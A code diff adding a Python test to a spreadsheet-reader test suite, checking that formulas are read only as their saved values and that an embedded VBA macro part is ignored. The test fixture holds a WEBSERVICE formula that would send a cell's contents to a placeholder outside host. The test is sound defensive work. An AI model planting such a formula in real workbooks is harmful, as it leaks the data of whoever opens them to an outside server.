@@ -92,6 +92,18 @@ def test_a_workbook_is_known_by_its_content_not_its_name():
     assert (sheet.name, list(sheet.rows)) == ("Cijfers", [["indicator", ""], ["", ""], ["", 79.0]])
 
 
+def test_a_formula_is_the_value_that_excel_saw_and_a_macro_is_nothing():
+    """The value beside a formula is read; nothing works it out, so nothing is asked of anyone."""
+    asks = '=WEBSERVICE("https://elders.example/"&A1)'
+    with ZipFile(io.BytesIO(book((0, 0, "thuiszitters"), (0, 1, asks)))) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    formula, saved = re.search(rb"(<f>.*WEBSERVICE.*</f>)<v>(\w+)</v>", parts[SHEET]).groups()
+    parts[SHEET] = parts[SHEET].replace(formula + b"<v>" + saved, formula + b"<v>79")
+    plain, with_macro = zipped(**parts), zipped(**parts | {"xl/vbaProject.bin": OLE})
+
+    assert [read_all(data) for data in (plain, with_macro)] == [[[["thuiszitters", 79.0]]]] * 2
+
+
 def test_a_damaged_workbook_is_named():
     good = book((0, 0, "indicator"))
 
